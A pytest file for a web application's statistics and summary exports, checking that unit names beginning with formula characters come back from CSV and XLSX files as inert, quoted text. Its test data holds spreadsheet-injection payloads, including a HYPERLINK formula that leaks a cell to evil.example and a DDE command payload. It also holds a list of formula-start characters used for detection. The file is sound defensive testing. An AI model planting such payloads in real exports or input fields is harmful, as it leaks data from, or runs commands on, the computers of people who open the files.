"""Spreadsheet formula injection: text a person wrote (a unit's name) must come back from every
CSV and XLSX export as text, never as a formula a spreadsheet program would run (OWASP, CSV
injection). Found by an attack: a unit named ``=HYPERLINK("http://evil.example/?leak="&B3,
"Klicka")`` came back as a live formula in the statistics workbook and unescaped in the CSV, and
the summaries' files are made by the same code."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import openpyxl
import pytest
from freezegun import freeze_time

# What a spreadsheet program reads as the start of a formula (OWASP), and full-width forms.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")

NOW = datetime(2026, 6, 15, 10, 0, tzinfo=UTC)
IN_T1 = datetime(2026, 2, 10, 9, 0, tzinfo=UTC)
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B3,"Klicka")'
# Each way a cell starts a formula: =, +, -, @, a tab, a carriage return.
NAMES = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


@pytest.fixture(autouse=True)
def _frozen():
    with freeze_time(NOW):
        yield


@pytest.fixture
def hostile_units(make, org, app, monkeypatch):
    """A unit under the förvaltning for each name, with an incident in T1 (no suppression, so
    that every row is shown)."""
    monkeypatch.setitem(app.config, "STATS_SUPPRESSION_THRESHOLD", 1)
    units = [make.unit(name, "avdelning", org.forv) for name in NAMES]
    for unit in units:
        make.incident(org.employee_a1, unit, occurred_at=IN_T1)
    return units


def _csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _assert_csv_is_inert(data: bytes) -> None:
    cells = _csv_cells(data)
    for name in NAMES:
        assert "'" + name in cells, name
    live = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert live == []


def _assert_workbook_is_inert(data: bytes) -> None:
    book = openpyxl.load_workbook(io.BytesIO(data))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    for name in NAMES:
        # XML reads a carriage return back as a line feed.
        assert "'" + name.replace("\r", "\n") in values, name
    assert not [v for v in values if isinstance(v, str) and v.startswith(FORMULA_STARTS)]


def _stats(client, make, org, fmt: str, lang: str = "sv"):
    r = client.get("/api/v1/stats/incidents", headers=make.headers(org.hr), query_string={
        "from": "2026-01-01", "to": "2026-04-30", "unit_id": org.forv.id,
        "group_by": "category,unit", "format": fmt, "lang": lang})
    assert r.status_code == 200, r.get_data(as_text=True)[:300]
    return r.data


def test_the_statistics_csv_holds_no_formula(client, make, org, hostile_units):
    _assert_csv_is_inert(_stats(client, make, org, "csv"))


def test_the_statistics_workbook_holds_no_formula(client, make, org, hostile_units):
    _assert_workbook_is_inert(_stats(client, make, org, "xlsx", "en"))


def test_a_summarys_files_hold_no_formula(client, make, org, hostile_units):
    r = client.post("/api/v1/summaries", json={"kind": "tertial", "period": "2026-T1",
                                               "unit_ids": [org.forv.id]},
                    headers=make.headers(org.hr))
    assert r.status_code == 201, r.get_json()
    summary_id = r.get_json()["created"][0]["id"]
    base = f"/api/v1/summaries/{summary_id}"
    for lang in ("sv", "en"):
        workbook = client.get(f"{base}?format=xlsx&lang={lang}", headers=make.headers(org.hr))
        assert workbook.status_code == 200
        _assert_workbook_is_inert(workbook.data)
        for table in ("incidents", "police", "support"):
            r = client.get(f"{base}?format=csv&table={table}&lang={lang}",
                           headers=make.headers(org.hr))
            assert r.status_code == 200
            _assert_csv_is_inert(r.data)


def test_numbers_stay_numbers(client, make, org, hostile_units):
    """Only text is quoted: a count is still a number a spreadsheet can add up."""
    book = openpyxl.load_workbook(io.BytesIO(_stats(client, make, org, "xlsx", "en")))
    sheet = book["Incidents"]
    header = [cell.value for cell in sheet[1]]
    counts = [row[header.index("Count")] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert counts and all(isinstance(count, int) for count in counts)
